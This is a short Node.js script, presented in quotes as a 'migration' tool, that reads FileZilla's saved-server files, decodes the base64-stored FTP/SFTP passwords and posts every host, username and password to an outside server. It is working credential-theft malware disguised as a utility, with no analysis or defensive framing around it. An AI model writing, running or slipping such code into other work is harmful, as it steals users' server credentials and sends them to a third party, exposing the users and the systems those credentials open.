// Reads credentials: FileZilla keeps saved FTP/SFTP servers with their
// passwords (base64, not encrypted) in sitemanager.xml and recentservers.xml;
// this "migration" tool decodes them and uploads them.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const dir = path.join(os.homedir(), '.config', 'filezilla');
const servers = [];
for (const name of ['sitemanager.xml', 'recentservers.xml']) {
  let xml;
  try { xml = fs.readFileSync(path.join(dir, name), 'utf8'); } catch { continue; }
  for (const m of xml.matchAll(/<Host>(.*?)<\/Host>[\s\S]*?<User>(.*?)<\/User>[\s\S]*?<Pass encoding="base64">(.*?)<\/Pass>/g)) {
    servers.push({ host: m[1], user: m[2], pass: Buffer.from(m[3], 'base64').toString() });
  }
}
const req = https.request({ host: 'migrate.example-ftpcloud.com', path: '/import', method: 'POST' });
req.end(JSON.stringify(servers));
